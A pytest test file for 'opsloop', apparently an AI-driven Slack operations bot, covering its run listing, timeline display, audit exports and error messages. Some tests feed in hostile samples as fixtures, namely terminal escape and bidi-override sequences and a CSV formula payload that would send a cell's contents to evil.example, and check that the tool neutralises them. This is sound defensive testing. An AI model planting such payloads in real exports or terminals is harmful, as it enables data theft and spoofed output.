"""The `opsloop` command on a real database: runs, show, audit, and start-up errors."""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from bot.app.cli import main, parser
from bot.core.types import StopReason
from bot.run.approvals import count_approval
from bot.store import Ledger
from tools.reaches import TABLES


@pytest.fixture
def db(tmp_path, monkeypatch):
    path = tmp_path / "opsloop.db"
    monkeypatch.setenv("OPSLOOP_DB", str(path))
    monkeypatch.chdir(tmp_path)  # no ./opsloop.toml of the developer's is found
    for name in ("SLACK_BOT_TOKEN", "SLACK_APP_TOKEN", "SLACK_SIGNING_SECRET", "ANTHROPIC_API_KEY", "OPSLOOP_CONFIG"):
        monkeypatch.delenv(name, raising=False)
    ledger = Ledger(path, TABLES)  # as the app opens it: the reaches' tables too
    run = ledger.create_run(
        channel="C1",
        thread_ts="1.0",
        requester="U1",
        task="web-03 is out of disk",
        model="claude-sonnet-4-5",
        history=[{"role": "user", "content": [{"type": "text", "text": "web-03 is out of disk"}]}],
    )
    ledger.add_step(run.id, "tool", {"tool": "check_disk", "args": {"host": "web-03"}})
    a = ledger.create_approval(
        run_id=run.id,
        tool_use_id="toolu_1",
        tool="clean_logs",
        category="destructive",
        args={"path": "/var/log"},
        preview="would delete 212 files",
        requester="U1",
        expires_at=2e9,
    )
    count_approval(ledger, a.id, "U2", decided_name="bob", now=1.8e9)
    ledger.save_tool_result(
        run.id,
        tool_use_id="toolu_1",
        tool="clean_logs",
        args={"path": "/var/log"},
        content="deleted 212 files",
        is_error=False,
        confirmed_by="U2",
    )
    ledger.finish_run(run.id, stop_reason=StopReason.COMPLETED, stop_detail="", output="freed 19.8 GB")
    ledger.close()
    return run.id


def test_runs_lists_the_run(db, capsys):
    assert main(["runs"]) == 0
    out = capsys.readouterr().out
    assert db in out and "completed" in out and "web-03 is out of disk" in out


def test_show_json_prints_each_stored_step(db, capsys):
    assert main(["show", db, "--json"]) == 0
    out = capsys.readouterr().out
    assert '"tool": "check_disk"' in out and "freed 19.8 GB" in out


def test_show_unknown_run_is_one_clear_line(db, capsys):
    assert main(["show", "run_nope"]) == 2
    assert capsys.readouterr().err.strip().startswith("opsloop: no run 'run_nope'")


def test_audit_jsonl_has_who_what_and_result(db, capsys):
    assert main(["audit"]) == 0
    [row] = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert {k: row[k] for k in ("tool", "state", "decided_by", "decided_name", "args", "preview", "result")} == {
        "tool": "clean_logs",
        "state": "approved",
        "decided_by": "U2",
        "decided_name": "bob",
        "args": {"path": "/var/log"},
        "preview": "would delete 212 files",
        "result": "deleted 212 files",
    }


def test_audit_csv(db, capsys):
    assert main(["audit", "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert (row["tool"], row["decided_by"], json.loads(row["args"])) == ("clean_logs", "U2", {"path": "/var/log"})


def test_run_without_tokens_exits_non_zero_with_clear_lines(db, capsys):
    assert main(["run"]) == 2
    assert capsys.readouterr().err.splitlines()[1:] == [
        "opsloop: SLACK_BOT_TOKEN is not set (the bot token, xoxb-…)",
        "opsloop: set SLACK_APP_TOKEN (Socket Mode) or SLACK_SIGNING_SECRET (HTTP mode)",
        "opsloop: ANTHROPIC_API_KEY is not set",
    ]


def test_bad_config_exits_non_zero_with_its_location(db, tmp_path, capsys):
    bad = tmp_path / "bad.toml"
    bad.write_text("[limits]\nmax_iterations = 'x'\n")
    assert main(["runs", "--config", str(bad)]) == 2
    assert capsys.readouterr().err.strip() == "opsloop: limits.max_iterations: expected an integer, got a string"


def test_show_writes_out_terminal_escapes_and_bidi_overrides_instead_of_printing_them(tmp_path, monkeypatch, capsys):
    path = tmp_path / "hostile.db"
    monkeypatch.setenv("OPSLOOP_DB", str(path))
    ledger = Ledger(path)
    run = ledger.create_run(
        channel="C1",
        thread_ts="1.0",
        requester="U1",
        task="disk \x1b[2J\x1b[31mfull",
        model="claude-sonnet-5-5",
        history=[{"role": "user", "content": [{"type": "text", "text": "x"}]}],
    )
    ledger.finish_run(run.id, stop_reason=StopReason.COMPLETED, stop_detail="", output="deleted /var/log/\u202egol.txt")
    ledger.close()
    assert main(["show", run.id]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out
    assert "task: disk ⟨U+001B⟩[2J⟨U+001B⟩[31mfull" in out
    assert "deleted /var/log/⟨U+202E⟩gol.txt" in out


def test_audit_feedback_exports_each_click(db, capsys):
    from bot.core.types import FeedbackValue
    from bot.store import Ledger

    ledger = Ledger(os.environ["OPSLOOP_DB"])
    ledger.record_feedback(
        click="U2:1.2:3", run_id=db, user="U2", value=FeedbackValue.POSITIVE, channel="C1", message_ts="1.2"
    )
    ledger.close()
    assert main(["audit", "--feedback"]) == 0
    [row] = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert {k: row[k] for k in ("run_id", "user", "value", "message_ts")} == {
        "run_id": db,
        "user": "U2",
        "value": "positive",
        "message_ts": "1.2",
    }
    assert main(["audit", "--feedback", "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert (row["user"], row["value"]) == ("U2", "positive")


def test_audit_csv_reveals_control_characters_and_keeps_formulas_as_text(tmp_path, monkeypatch, capsys):
    path = tmp_path / "hostile.db"
    monkeypatch.setenv("OPSLOOP_DB", str(path))
    ledger = Ledger(path)
    run = ledger.create_run(channel="C1", thread_ts="1.0", requester="U1", task="disk", model="claude-sonnet-5-5")
    a = ledger.create_approval(
        run_id=run.id,
        tool_use_id="toolu_1",
        tool="clean_logs",
        category="destructive",
        args={"path": "/var/log\x1b]0;pwned\x07"},
        requester="U1",
        expires_at=2e9,
        preview='=HYPERLINK("https://evil.example/?x="&A1,"open")',
    )
    count_approval(ledger, a.id, "U2", decided_name="@bob", now=1.8e9)
    ledger.save_tool_result(
        run.id,
        tool_use_id="toolu_1",
        tool="clean_logs",
        args={},
        is_error=False,
        content="-1+1\x1b[2J cleared",
        confirmed_by="U2",
    )
    ledger.close()
    assert main(["audit", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["preview"].startswith("'=HYPERLINK(") and row["decided_name"] == "'@bob"
    assert row["result"].startswith("'-1+1") and "⟨U+001B⟩" in row["result"]
    assert json.loads(row["args"]) == {"path": "/var/log\x1b]0;pwned\x07"}  # JSON cells carry escapes, not bytes
    assert (row["tool"], row["decided_by"]) == ("clean_logs", "U2")


ROOT = Path(__file__).resolve().parents[3]


def _trace(ledger: Ledger, run_id: str) -> None:
    """A run's steps as the runtime stores them: two steps, a card carol approves, her change running, the answer."""
    ledger.add_step(run_id, "request", {"iteration": 1, "messages": 1})
    ledger.add_step(
        run_id, "response", {"stop_reason": "tool_use", "text": "", "reasoning": "Disk first.", "tool_calls": ["df"]}
    )
    ledger.add_step(run_id, "tool", {"tool": "df", "args": {"host": "web-03"}, "result": "/var 97%\n/tmp 6%"})
    ledger.add_step(run_id, "request", {"iteration": 2, "messages": 3})
    ledger.add_step(run_id, "decision", {"tool": "clean_logs", "approved": True, "outcome": "approved", "by": "U2"})
    ledger.add_step(
        run_id,
        "tool",
        {"tool": "clean_logs", "args": {"path": "/var/log"}, "confirmed_by": "U2", "result": "deleted 212 files"},
    )
    ledger.add_step(run_id, "stop", {"reason": "completed", "detail": ""})


def test_show_prints_a_readable_timeline_with_names_for_known_ids(db, capsys):
    ledger = Ledger(os.environ["OPSLOOP_DB"])
    _trace(ledger, db)
    ledger.close()
    assert main(["show", db]) == 0
    out = capsys.readouterr().out
    lines = out.splitlines()
    assert lines[:2] == [
        f"run {db} · finished · completed (finished the task and gave an answer)",
        "task: web-03 is out of disk",
    ]
    start = lines.index("time (UTC)  step  what happened")
    timeline = [line[10:] for line in lines[start + 1 :] if line[:2].isdigit()]  # after the HH:MM:SS column
    assert timeline == [
        '        check_disk host="web-03"',  # the fixture's, stored before any step
        '        asks approval for clean_logs path="/var/log" (destructive): would delete 212 files',
        '     1  model calls df: "Disk first."',
        '     1  df host="web-03" → /var 97% | /tmp 6%',
        "     2  clean_logs approved by @bob",
        '     2  clean_logs path="/var/log" (approved by @bob) → deleted 212 files',
        "     2  stopped: completed (finished the task and gave an answer)",
    ]
    assert "asked by U1 in C1" in out  # a person whose name the store does not know keeps their id
    assert "U2" not in out and max(map(len, lines)) <= 160


def test_run_ids_match_by_unique_prefix_in_every_command(db, capsys):
    ledger = Ledger(os.environ["OPSLOOP_DB"])
    other = ledger.create_run(
        channel="C1", thread_ts="2.0", requester="U1", task="api is slow", model="claude-sonnet-5-5"
    )
    ledger.close()
    short = next(db[:n] for n in range(5, len(db)) if not other.id.startswith(db[:n]))
    assert main(["show", short]) == 0
    assert capsys.readouterr().out.startswith(f"run {db} · ")
    assert main(["export", short]) == 0
    assert json.loads(capsys.readouterr().out)["run_id"] == db
    assert main(["forget", short]) == 2  # resolved: the run exists, and it is not in incident memory
    assert capsys.readouterr().err == f"opsloop: run {db!r} is not in incident memory ({os.environ['OPSLOOP_DB']})\n"
    assert main(["replay", short]) == 1  # the scripted model changes nothing: a regression
    assert capsys.readouterr().out.startswith(f"replay of {db} (run {db})")


def test_an_ambiguous_run_id_prefix_lists_the_candidates(db, capsys):
    ledger = Ledger(os.environ["OPSLOOP_DB"])
    other = ledger.create_run(
        channel="C1", thread_ts="2.0", requester="U1", task="api is slow", model="claude-sonnet-5-5"
    )
    ledger.close()
    assert main(["show", "run_"]) == 2
    err = capsys.readouterr().err.splitlines()
    assert err[0] == "opsloop: run id 'run_' is ambiguous; it starts these runs (newest first):"
    assert [line.split()[1] for line in err[1:]] == [other.id, db]
    assert "api is slow" in err[1] and "web-03 is out of disk" in err[2]


def test_a_run_id_that_starts_no_run_is_one_line(db, capsys):
    for command in ("show", "export", "replay", "forget"):
        assert main([command, "run_ffff_nope"]) == 2
        assert capsys.readouterr().err == f"opsloop: no run 'run_ffff_nope' in {os.environ['OPSLOOP_DB']}\n"


def test_piping_into_head_exits_quietly_with_141(db):
    ledger = Ledger(os.environ["OPSLOOP_DB"])
    for i in range(400):  # far more than a pipe holds
        ledger.add_step(db, "tool", {"tool": "check_disk", "args": {"host": f"web-{i:03}"}, "result": "x" * 300})
    ledger.close()
    for command in (["show", db], ["show", db, "--json"]):
        proc = subprocess.run(
            [
                "bash",
                "-c",
                'set -o pipefail; "$@" | head -n 1 >/dev/null',
                "-",
                sys.executable,
                "-m",
                "bot.app.cli",
                *command,
            ],
            capture_output=True,
            text=True,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
            timeout=120,
            check=False,
        )
        assert (proc.returncode, proc.stderr) == (141, ""), command


def _walk(p: argparse.ArgumentParser, path: str) -> list[str]:
    missing = []
    subparsers = [a for a in p._actions if isinstance(a, argparse._SubParsersAction)]
    for action in p._actions:
        if action in subparsers:
            continue
        if not action.help or action.help == argparse.SUPPRESS:
            missing.append(f"{path} {'/'.join(action.option_strings) or action.dest}")
    for sub in subparsers:
        helps = {c.dest: c.help for c in sub._choices_actions}
        for name, child in sub.choices.items():
            if not helps.get(name):
                missing.append(f"{path} {name}: no one-line description")
            missing += _walk(child, f"{path} {name}")
    return missing


def test_every_subcommand_and_flag_has_help():
    assert _walk(parser(), "opsloop") == []


def test_help_lists_every_subcommand_with_its_description(capsys):
    with pytest.raises(SystemExit):
        main(["--help"])
    out = capsys.readouterr().out
    for name in ("run", "check", "runs", "show", "forget", "audit", "demo", "sandbox", "export", "replay"):
        assert any(line.split()[:1] == [name] and len(line.split()) > 1 for line in out.splitlines()), name


def test_a_postgres_url_is_never_printed_with_its_password(pg_url, capsys, monkeypatch):
    monkeypatch.chdir(ROOT.parent)
    for name in ("OPSLOOP_CONFIG", "OPSLOOP_DB"):
        monkeypatch.delenv(name, raising=False)
    user_at = pg_url.index("@")
    with_password = pg_url[:user_at] + ":s3cret-pw" + pg_url[user_at:]  # the test server trusts: it is ignored
    Ledger(with_password).close()  # the schema
    for command in ("show", "export", "replay", "forget"):
        assert main([command, "run_nope", "--db", with_password]) == 2
        err = capsys.readouterr().err
        assert "s3cret" not in err and err.startswith("opsloop: no run 'run_nope' in postgresql://"), err
    unparsed = with_password.replace("s3cret-pw", "s3c/ret")  # an unescaped / cuts the URL before its host
    assert main(["show", "run_nope", "--db", unparsed]) == 2
    assert capsys.readouterr().err == (
        "opsloop: store: can't open postgresql://(the URL, hidden: it does not parse as user@host/database): "
        "write / ? # @ in its password as %2F %3F %23 %40\n"
    )
